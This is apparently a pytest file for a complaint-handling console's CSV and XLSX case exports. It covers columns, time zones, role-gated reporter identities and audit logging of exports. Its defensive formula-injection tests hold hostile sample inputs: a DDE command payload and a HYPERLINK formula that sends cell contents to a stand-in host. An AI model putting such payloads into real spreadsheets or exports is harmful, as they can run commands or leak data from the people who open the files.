"""Cases as a supervisor's spreadsheet (console.exports): the columns reported on, in order; times in the city's
time zone; names of queues, districts, labels and statuses rather than codes; the reporter's name and phone only
when asked, only for the roles that may reveal identities, and never for an anonymous reporter; no cell a
spreadsheet would run as a formula (= + - @, tab, carriage return: OWASP's list), in CSV (UTF-8 with a byte-order
mark) and in XLSX (text cells stay text); every export in the audit log with its filter; at most 10,000 cases.
The formatting is checked on cases built in memory; the exports themselves on SQLite and the PostgreSQL on
127.0.0.1. (tests/console/test_exports_and_audit.py downloads the same through the pages and the REST API.)"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from console import exports
from console.auth import Principal
from console.context import ConsoleContext
from console.exports import Sheet
from console.operations import OperationError
from handlers.city import CityConfig, load_city_config
from storage import queries, staff_actions
from storage.models import AuditEntry, Case, StaffRole, StaffUser
from tests.console.conftest import make_context
from tests.factories import create_staff, file_case

IP = "203.0.113.7"
CITY = load_city_config(None)
HALL = "清廉大厅监督组（市行政审批服务局）"
HEADER = [
    "编号 case number", "收到时间 received (Asia/Shanghai)", "队列 queue", "区县 district", "分类 label",
    "分类确认 label review", "置信度 confidence (%)", "状态 status", "承办人 assignee",
    "受理时间 accepted (Asia/Shanghai)", "受理期限 accept by (Asia/Shanghai)",
    "办结期限 resolve by (Asia/Shanghai)", "办结时间 closed (Asia/Shanghai)", "超期 overdue", "评价 rating",
    "实名 real name", "渠道 channel", "地点 place", "摘要 summary",
]
IDENTITY = ["举报人姓名 reporter's name", "举报人电话 reporter's phone"]
NOW = datetime(2026, 3, 25, 4, 0, tzinfo=UTC)


def _case(**values: Any) -> Case:
    """A case as an export reads it, built in memory: a real-name case in handling unless told otherwise."""
    fields: dict[str, Any] = {
        "case_number": "QL-2026-000007", "created_at": datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
        "queue": "clean_hall", "district": "yuelu", "label": "slow_service", "label_status": "corrected",
        "label_confidence": 0.876543, "status": "in_handling", "assigned_to_id": 5,
        "accepted_at": datetime(2026, 3, 2, 1, 0, tzinfo=UTC),
        "accept_due_at": datetime(2026, 3, 6, 15, 59, tzinfo=UTC),
        "resolve_due_at": datetime(2026, 3, 20, 15, 59, tzinfo=UTC), "closed_at": None, "rating": None,
        "anonymous": False, "channel": "wechat", "place": "岳麓区政务服务中心",
        "description": "  窗口人员\n\n擅离岗位，\t群众排队。 ",
        "reporter_name": "张三", "reporter_phone": "13800000000",
    }
    fields.update(values)
    return Case(**fields)


def _row(case: Case, *, identity: bool = False, city: CityConfig = CITY,
         usernames: dict[int, str] | None = None, now: datetime = NOW) -> dict[str, Any]:
    table = exports.sheet([case], {5: "li"} if usernames is None else usernames, city, identity=identity, now=now)
    [row] = table.rows
    return dict(zip(table.header, row, strict=True))


# --- cells no spreadsheet runs as a formula ---------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "=1+1", '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', "+8613800000000", "-13800000000", "@SUM(1+1)",
    "\t=1+1", "\r=1+1",
])
def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert exports.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["1+1", "a=b", "举报人邮箱 li@example.cn", "'=1+1", "", None, -5, -0.5])
def test_other_cells_are_left_as_they_are(value: Any) -> None:
    assert exports.neutralised(value) == value


# --- the columns and the cells of a row -------------------------------------------------------------------------


def test_the_columns_are_the_reported_ones_and_identity_adds_the_name_and_phone_at_the_end() -> None:
    assert exports.header(CITY, identity=False) == HEADER
    assert exports.header(CITY, identity=True) == HEADER + IDENTITY


def test_a_row_shows_names_local_times_and_a_one_line_summary() -> None:
    row = _row(_case())
    assert list(row.values()) == [
        "QL-2026-000007", "2026-03-02 00:30", HALL, "岳麓区", "窗口服务问题", "已更正", 0.8765, "办理中", "li",
        "2026-03-02 09:00", "2026-03-06 23:59", "2026-03-20 23:59", None, "是", None, "是", "wechat",
        "岳麓区政务服务中心", "窗口人员 擅离岗位， 群众排队。"]


def test_a_closed_rated_case_shows_when_it_was_closed_and_is_not_overdue() -> None:
    row = _row(_case(status="closed", label_status="confirmed", rating=4,
                     closed_at=datetime(2026, 3, 24, 23, 0, tzinfo=UTC)))
    assert (row["状态 status"], row["分类确认 label review"], row["办结时间 closed (Asia/Shanghai)"],
            row["评价 rating"], row["超期 overdue"]) == ("已办结", "已确认", "2026-03-25 07:00", 4, "否")


@pytest.mark.parametrize(("status", "accept_due", "resolve_due", "overdue"), [
    ("routed", datetime(2026, 3, 25, 3, 59, tzinfo=UTC), None, "是"),  # not accepted a minute after its deadline
    ("routed", datetime(2026, 3, 25, 4, 1, tzinfo=UTC), None, "否"),
    ("routed", datetime(2026, 3, 25, 4, 1, tzinfo=UTC), datetime(2026, 3, 24, tzinfo=UTC), "是"),  # open all along
    ("accepted", datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 3, 25, 3, 59, tzinfo=UTC), "是"),
    ("answered", None, datetime(2026, 3, 24, tzinfo=UTC), "是"),
    ("rejected", datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 3, 1, tzinfo=UTC), "否"),
    ("in_handling", None, None, "否"),
])
def test_overdue_says_whether_the_open_deadline_had_passed_at_the_time_of_the_export(
        status: str, accept_due: datetime | None, resolve_due: datetime | None, overdue: str) -> None:
    assert _row(_case(status=status, accept_due_at=accept_due, resolve_due_at=resolve_due))["超期 overdue"] == overdue


def test_what_the_city_no_longer_knows_is_shown_by_its_code_and_what_is_missing_stays_empty() -> None:
    row = _row(_case(queue="old_queue", district="old_district", label="made_up", label_status=None,
                     label_confidence=None, status="paused", assigned_to_id=99, accepted_at=None),
               usernames={5: "li"})
    assert [row[name] for name in ("队列 queue", "区县 district", "分类 label", "分类确认 label review",
                                   "置信度 confidence (%)", "状态 status", "承办人 assignee",
                                   "受理时间 accepted (Asia/Shanghai)")] == [
        "old_queue", "old_district", "made_up", "", None, "paused", "", None]
    bare = _row(_case(district=None, label=None, assigned_to_id=None))
    assert (bare["区县 district"], bare["分类 label"], bare["承办人 assignee"]) == ("", "", "")


def test_identity_columns_hold_a_real_name_reporters_name_and_phone_and_nothing_for_an_anonymous_one() -> None:
    named = _row(_case(), identity=True)
    assert [named[name] for name in ("实名 real name", *IDENTITY)] == ["是", "张三", "13800000000"]
    anonymous = _row(_case(anonymous=True), identity=True)  # whatever is stored, an anonymous reporter stays so
    assert [anonymous[name] for name in ("实名 real name", *IDENTITY)] == ["否", None, None]
    assert not set(IDENTITY) & set(_row(_case()))


def test_times_and_their_column_names_follow_the_citys_time_zone() -> None:
    city = CITY.model_copy(update={"timezone": "America/New_York"})
    row = _row(_case(), city=city)
    assert (row["收到时间 received (America/New_York)"], row["办结期限 resolve by (America/New_York)"]) == (
        "2026-03-01 11:30", "2026-03-20 11:59")  # standard time, then daylight saving time from 8 March


def test_the_summary_is_one_line_of_at_most_200_characters() -> None:
    long = _row(_case(description="举" * 150 + "\n\n" + "报" * 150))["摘要 summary"]
    assert long == "举" * 150 + " " + "报" * 49


def test_free_text_and_identity_that_would_run_as_a_formula_are_neutralised_in_the_csv() -> None:
    case = _case(place="=HYPERLINK(\"http://example.invalid\")", description="\t =cmd|' /C calc'!A0",
                 reporter_name="@SUM(1+1)", reporter_phone="+8613800000000", channel="=web")
    content = exports.to_csv(exports.sheet([case], {5: "li"}, CITY, identity=True, now=NOW))
    header, values = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    row = dict(zip(header, values, strict=True))
    assert [row[name] for name in ("地点 place", "摘要 summary", "渠道 channel", *IDENTITY)] == [
        "'=HYPERLINK(\"http://example.invalid\")", "'=cmd|' /C calc'!A0", "'=web", "'@SUM(1+1)",
        "'+8613800000000"]


CJK = re.compile(r"[\u3400-\u9fff]")
HEADER_EN = [
    "case number", "received (Asia/Shanghai)", "queue", "district", "label", "label review", "confidence (%)", "status",
    "assignee", "accepted (Asia/Shanghai)", "accept by (Asia/Shanghai)", "resolve by (Asia/Shanghai)",
    "closed (Asia/Shanghai)", "overdue", "rating", "real name", "channel", "place", "summary",
]


def test_an_english_export_names_its_columns_and_values_in_english_and_keeps_the_reports_own_words() -> None:
    assert exports.header(CITY, identity=True, locale="en") == [*HEADER_EN, "reporter's name", "reporter's phone"]
    table = exports.sheet([_case(), _case(status="closed", label_status="confirmed", anonymous=True, rating=5,
                                          closed_at=datetime(2026, 3, 24, 23, 0, tzinfo=UTC))],
                          {5: "li"}, CITY, identity=False, now=NOW, locale="en")
    assert table.header == HEADER_EN
    assert table.rows == [
        ["QL-2026-000007", "2026-03-02 00:30", "Clean Hall supervision (Administrative Approval Bureau)", "Yuelu",
         "Poor counter service", "corrected", 0.8765, "In handling", "li", "2026-03-02 09:00", "2026-03-06 23:59",
         "2026-03-20 23:59", None, "yes", None, "yes", "wechat", "岳麓区政务服务中心",
         "窗口人员 擅离岗位， 群众排队。"],
        ["QL-2026-000007", "2026-03-02 00:30", "Clean Hall supervision (Administrative Approval Bureau)", "Yuelu",
         "Poor counter service", "confirmed", 0.8765, "Closed", "li", "2026-03-02 09:00", "2026-03-06 23:59",
         "2026-03-20 23:59", "2026-03-25 07:00", "no", 5, "no", "wechat", "岳麓区政务服务中心",
         "窗口人员 擅离岗位， 群众排队。"]]
    place, summary = HEADER_EN.index("place"), HEADER_EN.index("summary")  # the report's words are data
    assert not [cell for row in table.rows for index, cell in enumerate(row)
                if index not in (place, summary) and CJK.search(str(cell))]


def test_an_english_export_is_neutralised_like_a_chinese_one() -> None:
    case = _case(place="=HYPERLINK(\"http://example.invalid\")", channel="+web")
    for content in (exports.to_csv(exports.sheet([case], {}, CITY, identity=False, now=NOW, locale="en")),):
        header, values = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        row = dict(zip(header, values, strict=True))
        assert (row["place"], row["channel"]) == ("'=HYPERLINK(\"http://example.invalid\")", "'+web")
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(exports.sheet([case], {}, CITY, identity=False, now=NOW,
                                                                      locale="en"))))
    cells = {head.value: cell for head, cell in zip(*workbook["cases"].iter_rows(), strict=True)}
    assert (cells["place"].value, cells["place"].data_type, cells["place"].quotePrefix) == (
        "=HYPERLINK(\"http://example.invalid\")", "s", True)


def test_a_confidence_is_a_percentage_as_the_pages_show_it_a_number_in_both_files() -> None:
    """The console shows 0.876543 as 88%. XLSX: the number itself (0.8765) in a percent format, so that the cell
    shows 88% and sums and sorts as a number. CSV has no formats: the percentage as a number (87.65), the unit in
    the column's name — what a supervisor types into the list's filter, and what a program reads."""
    table = exports.sheet([_case(), _case(label_confidence=1.0), _case(label_confidence=None)], {5: "li"}, CITY,
                          identity=False, now=NOW)
    column = "置信度 confidence (%)"
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"))))
    assert [row[rows[0].index(column)] for row in rows] == [column, "87.65", "100", ""]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(table)))["cases"]
    index = [cell.value for cell in sheet[1]].index(column) + 1
    assert [(cell.value, cell.data_type, cell.number_format)
            for cell in (sheet.cell(row=row, column=index) for row in (2, 3))] == [(0.8765, "n", "0%"), (1, "n", "0%")]
    assert sheet.cell(row=4, column=index).value is None
    english = exports.sheet([_case()], {5: "li"}, CITY, identity=False, now=NOW, locale="en")
    english_rows = list(csv.reader(io.StringIO(exports.to_csv(english).decode("utf-8-sig"))))
    assert english_rows[1][english_rows[0].index("confidence (%)")] == "87.65"


# --- the files ----------------------------------------------------------------------------------------------------

TABLE = Sheet(["编号 case number", "地点 place", "置信度 confidence", "评价 rating"], [
    ["QL-2026-000001", '芙蓉区"一站式"大厅, 二楼\n东侧', 0.9123, 5],
    ["QL-2026-000002", "'=1+1", None, None],
    ["007", "=SUM(A1:A2)", 0.5, 3],
])


def test_csv_is_utf8_with_a_byte_order_mark_and_empty_cells_for_missing_values() -> None:
    content = exports.to_csv(TABLE)
    assert content.startswith(b"\xef\xbb\xbf\xe7\xbc\x96\xe5\x8f\xb7")  # the mark, then 编号
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [
        ["编号 case number", "地点 place", "置信度 confidence", "评价 rating"],
        ["QL-2026-000001", '芙蓉区"一站式"大厅, 二楼\n东侧', "0.9123", "5"],
        ["QL-2026-000002", "'=1+1", "", ""],
        ["007", "'=SUM(A1:A2)", "0.5", "3"],  # whatever the sheet holds, the CSV's cells never run
    ]


def test_xlsx_is_one_sheet_whose_text_stays_text_and_numbers_stay_numbers() -> None:
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(TABLE)))
    assert workbook.sheetnames == ["cases"]
    cells = [[(cell.value, cell.data_type) for cell in row] for row in workbook["cases"].iter_rows()]
    assert cells[1:] == [
        [("QL-2026-000001", "s"), ('芙蓉区"一站式"大厅, 二楼\n东侧', "s"), (0.9123, "n"), (5, "n")],
        [("QL-2026-000002", "s"), ("'=1+1", "s"), (None, "n"), (None, "n")],
        [("007", "s"), ("=SUM(A1:A2)", "s"), (0.5, "n"), (3, "n")],  # even unneutralised: never a formula
    ]
    assert [value for value, _ in cells[0]] == TABLE.header


def test_a_residents_text_that_looks_like_a_formula_is_kept_exactly_in_xlsx_and_neutralised_in_csv() -> None:
    """XLSX: the cell holds the resident's exact text as a string (with Excel's quote prefix, so editing it does not
    turn it into a formula) — no apostrophe added. CSV has no cell types: there the leading apostrophe stays."""
    table = exports.sheet([_case(place="=1+1", description="@SUM(1+1)", reporter_phone="+8613800000000")],
                          {5: "li"}, CITY, identity=True, now=NOW)
    columns = ("地点 place", "摘要 summary", "举报人电话 reporter's phone")
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(table)))["cases"]
    header = [cell.value for cell in sheet[1]]
    cells = [sheet.cell(row=2, column=header.index(name) + 1) for name in columns]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [
        ("=1+1", "s", True), ("@SUM(1+1)", "s", True), ("+8613800000000", "s", True)]
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"))))
    assert [rows[1][rows[0].index(name)] for name in columns] == ["'=1+1", "'@SUM(1+1)", "'+8613800000000"]


# --- exports on the database --------------------------------------------------------------------------------------


class Office:
    """A console context on the test database with its staff and cases."""

    def __init__(self, context: ConsoleContext) -> None:
        self.context = context
        self.database = context.database

    async def staff(self, username: str, role: StaffRole, queues: Sequence[str] = ()) -> Principal:
        async with self.database.sessionmaker.begin() as session:
            await create_staff(session, username, role, queues)
        async with self.database.read_sessionmaker() as session:
            user = await staff_actions.get_staff_by_username(session, username)
        assert user is not None
        return Principal(user=user, session=None, context=self.context, ip=IP)

    async def case(self, queue: str = "clean_hall", **values: Any) -> Case:
        async with self.database.sessionmaker.begin() as session:
            case, _ = await file_case(session, queue=queue, secret_key=self.context.secret_key, **values)
        return case

    async def assign(self, case: Case, user: StaffUser) -> None:
        async with self.database.sessionmaker.begin() as session:
            found = await session.get(Case, case.id)
            assert found is not None
            await staff_actions.assign_case(session, found, user, actor=user)

    async def exports(self) -> list[AuditEntry]:
        async with self.database.read_sessionmaker() as session:
            return list((await session.execute(select(AuditEntry).where(AuditEntry.action == "case.export")
                                               .order_by(AuditEntry.id))).scalars())


@pytest.fixture
def office(database: Any, tmp_path: Path) -> Office:
    return Office(make_context(database, tmp_path))


def _csv(export: exports.Export) -> list[list[str]]:
    return list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))


def _stamp() -> str:
    return datetime.now(UTC).astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y%m%d-%H%M")


async def _refusal(call: Any) -> tuple[int, str]:
    with pytest.raises(OperationError) as refused:
        await call
    return refused.value.status_code, refused.value.message


async def test_a_supervisor_exports_the_filters_cases_newest_first_and_the_export_is_audited(office: Office) -> None:
    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
    reviewer = await office.staff("li", StaffRole.REVIEWER, ["clean_hall"])
    named = await office.case(now=datetime(2026, 1, 5, 16, 30, tzinfo=UTC), anonymous=False, reporter_name="张三",
                              reporter_phone="13800000000", channel="wechat", confidence=0.912345,
                              accept_due_at=datetime(2026, 1, 9, 15, 59, tzinfo=UTC),
                              resolve_due_at=datetime(2026, 3, 2, 15, 59, tzinfo=UTC))
    unnamed = await office.case(now=datetime(2026, 1, 6, 1, 5, tzinfo=UTC), district=None, label=None,
                                resolve_due_at=datetime(2099, 1, 1, tzinfo=UTC), place="芙蓉区信访接待大厅")
    await office.assign(unnamed, reviewer.user)
    await office.case("petitions", label="bribery_gifts")

    before = _stamp()
    export = await exports.export_cases(supervisor, queries.CaseFilter(queues={"clean_hall"}), fmt="csv",
                                        identity=False, ip="198.51.100.2", described={"queue": "clean_hall"})
    assert export.filename in {f"qinglian-cases-{before}.csv", f"qinglian-cases-{_stamp()}.csv"}
    assert export.media_type == "text/csv; charset=utf-8"
    rows = _csv(export)
    assert rows == [HEADER, [
        str(unnamed.case_number), "2026-01-06 09:05", HALL, "", "", "", "", "待受理", "li 同志", "", "",
        "2099-01-01 08:00", "", "否", "", "否", "telegram", "芙蓉区信访接待大厅",
        "窗口工作人员擅离岗位两个小时，群众排队无人办理。",
    ], [
        str(named.case_number), "2026-01-06 00:30", HALL, "岳麓区", "窗口服务问题", "", "91.23", "待受理", "", "",
        "2026-01-09 23:59", "2026-03-02 23:59", "", "是", "", "是", "wechat", "岳麓区政务服务中心",
        "窗口工作人员擅离岗位两个小时，群众排队无人办理。",
    ]]
    [entry] = await office.exports()
    assert (entry.actor_id, entry.case_id, entry.ip, entry.detail) == (supervisor.user.id, None, "198.51.100.2", {
        "format": "csv", "count": 2, "identity": False, "filter": {"queue": "clean_hall"}})


async def test_an_export_holds_only_the_cases_of_the_users_own_queues(office: Office) -> None:
    reviewer = await office.staff("li", StaffRole.REVIEWER, ["clean_hall"])
    hall = await office.case("clean_hall")
    await office.case("petitions", label="bribery_gifts")
    everything = await exports.export_cases(reviewer, queries.CaseFilter(), fmt="csv", identity=False, ip=None,
                                            described={})
    asked_elsewhere = await exports.export_cases(reviewer, queries.CaseFilter(queues={"petitions"}), fmt="csv",
                                                 identity=False, ip=None, described={"queue": "petitions"})
    assert [row[0] for row in _csv(everything)[1:]] == [hall.case_number]
    assert _csv(asked_elsewhere) == [HEADER]
    # without an address of its own the entry carries the request's
    assert [(e.ip, e.detail["count"]) for e in await office.exports()] == [(IP, 1), (IP, 0)]


async def test_identity_columns_are_refused_to_a_role_that_may_not_reveal_and_audited_for_one_that_may(
        office: Office) -> None:
    reviewer = await office.staff("li", StaffRole.REVIEWER, ["clean_hall"])
    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
    named = await office.case(anonymous=False, reporter_name="张三", reporter_phone="-13800000000")
    anonymous = await office.case()
    hall = queries.CaseFilter(queues={"clean_hall"})

    assert await _refusal(exports.export_cases(reviewer, hall, fmt="csv", identity=True, ip=None, described={})) == (
        403, "your role may not see reporters' identities")
    assert await office.exports() == []

    export = await exports.export_cases(supervisor, hall, fmt="xlsx", identity=True, ip=None, described={},
                                        reason="季度统计回访")
    assert export.filename.endswith(".xlsx") and export.media_type == exports.MEDIA_TYPES["xlsx"]
    sheet = load_workbook(io.BytesIO(export.content))["cases"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER + IDENTITY
    assert [(row[0], row[15], row[-2], row[-1]) for row in rows[1:]] == [
        (anonymous.case_number, "否", None, None), (named.case_number, "是", "张三", "-13800000000")]  # as stored
    assert [(e.actor_id, e.detail["format"], e.detail["identity"]) for e in await office.exports()] == [
        (supervisor.user.id, "xlsx", True)]


async def reveals(office: Office) -> list[tuple[int | None, int | None, str | None, dict[str, Any]]]:
    """The identity reveals in the audit log: (actor, case, address, detail), in order."""
    async with office.database.read_sessionmaker() as session:
        rows = (await session.execute(select(AuditEntry).where(AuditEntry.action == "case.reveal_identity")
                                      .order_by(AuditEntry.id))).scalars()
        return [(e.actor_id, e.case_id, e.ip, e.detail) for e in rows]


async def test_an_identity_export_needs_a_reason_and_is_audited_as_a_reveal_of_each_real_name_case(
        office: Office) -> None:
    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
    named = await office.case(anonymous=False, reporter_name="张三", reporter_phone="13800000000")
    await office.case()  # anonymous: no identity in the file, no reveal
    elsewhere = await office.case("petitions", anonymous=False, reporter_name="李四", reporter_phone="13900000000")
    hall = queries.CaseFilter(queues={"clean_hall"})

    for reason in (None, "", ".", " 核 实 ", "？？？？"):  # no reason, or fewer than four letters or digits
        assert await _refusal(exports.export_cases(supervisor, hall, fmt="csv", identity=True, ip=None,
                                                   described={"queue": "clean_hall"}, reason=reason)) == (
            422, "an export with reporters' identities needs a reason of at least 4 letters or digits (it is "
                 "recorded as a reveal of each case whose reporter's identity is exported)"), reason
    assert (await office.exports(), await reveals(office)) == ([], [])

    export = await exports.export_cases(supervisor, hall, fmt="csv", identity=True, ip="198.51.100.2",
                                        described={"queue": "clean_hall"}, reason=" 核实线索 ")
    assert [row[-2:] for row in _csv(export)[1:]] == [["", ""], ["张三", "13800000000"]]
    [entry] = await office.exports()
    assert entry.detail == {"format": "csv", "count": 2, "identity": True, "filter": {"queue": "clean_hall"},
                            "reason": "核实线索"}
    # the reveal of the one reporter whose identity the file holds, as a reveal on the ticket is recorded
    assert await reveals(office) == [(supervisor.user.id, named.id, "198.51.100.2", {
        "reason": "核实线索", "via": "export", "export_id": entry.id})]
    assert elsewhere.id not in [case_id for _, case_id, _, _ in await reveals(office)]

    # a reason without identity columns reveals nothing
    await exports.export_cases(supervisor, hall, fmt="csv", identity=False, ip=None, described={},
                               reason="核实线索")
    assert len(await reveals(office)) == 1 and "reason" not in (await office.exports())[-1].detail


async def test_the_citys_identity_roles_decide_who_may_export_identities(office: Office) -> None:
    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
    admin = await office.staff("boss", StaffRole.ADMIN)
    await office.case(anonymous=False, reporter_name="张三", reporter_phone="13800000000")
    city = CITY.model_copy(update={"console": CITY.console.model_copy(update={"identity_roles": ["admin"]})})
    context = dataclasses.replace(office.context, city=city)
    supervisor, admin = (dataclasses.replace(p, context=context) for p in (supervisor, admin))

    assert await _refusal(exports.export_cases(supervisor, queries.CaseFilter(), fmt="csv", identity=True, ip=None,
                                               described={}, reason="季度统计回访")) == (
        403, "your role may not see reporters' identities")
    plain = await exports.export_cases(supervisor, queries.CaseFilter(), fmt="csv", identity=False, ip=None,
                                       described={})
    revealed = await exports.export_cases(admin, queries.CaseFilter(), fmt="csv", identity=True, ip=None,
                                          described={}, reason="季度统计回访")
    assert len(_csv(plain)[1]) == len(HEADER)
    assert _csv(revealed)[1][-2:] == ["张三", "13800000000"]
    assert [e.actor_id for e in await office.exports()] == [supervisor.user.id, admin.user.id]


async def test_more_than_10000_matching_cases_are_refused_and_10000_are_exported(office: Office) -> None:
    supervisor = await office.staff("wang", StaffRole.SUPERVISOR)
    start = datetime(2026, 1, 1, tzinfo=UTC)
    async with office.database.sessionmaker.begin() as session:  # 10,001 bare cases, one of them in another queue
        await session.execute(insert(Case), [{
            "case_number": f"QL-2026-{n:06d}", "receipt_code_hash": f"{n:064x}", "channel": "telegram",
            "reporter_ref": "r", "reporter_key": "k", "locale": "zh", "district": None, "place": "p",
            "occurred": "o", "description": "d", "anonymous": n % 2 == 0, "status": "routed",
            "reporter_name": None if n % 2 == 0 else f"张{n}", "reporter_phone": None,
            "queue": "petitions" if n == 0 else "clean_hall", "created_at": start + timedelta(seconds=n),
            "updated_at": start} for n in range(10_001)])

    assert await _refusal(exports.export_cases(supervisor, queries.CaseFilter(), fmt="csv", identity=False,
                                               ip=None, described={})) == (
        422, "more than 10000 cases match; an export holds at most 10000: narrow the filter")
    assert await office.exports() == []  # nothing was exported

    export = await exports.export_cases(supervisor, queries.CaseFilter(queues={"clean_hall"}), fmt="csv",
                                        identity=False, ip=None, described={"queue": "clean_hall"})
    rows = _csv(export)
    assert (len(rows), rows[1][0], rows[-1][0]) == (10_001, "QL-2026-010000", "QL-2026-000001")
    assert [e.detail["count"] for e in await office.exports()] == [10_000]

    # with identities: one reveal per real-name case of the file (the odd numbers), written with the export's entry
    await exports.export_cases(supervisor, queries.CaseFilter(queues={"clean_hall"}), fmt="csv", identity=True,
                               ip=None, described={"queue": "clean_hall"}, reason="年度核查回访")
    async with office.database.read_sessionmaker() as session:
        revealed = set((await session.execute(select(Case.case_number).join(
            AuditEntry, AuditEntry.case_id == Case.id).where(AuditEntry.action == "case.reveal_identity"))).scalars())
    assert revealed == {f"QL-2026-{n:06d}" for n in range(1, 10_001, 2)}

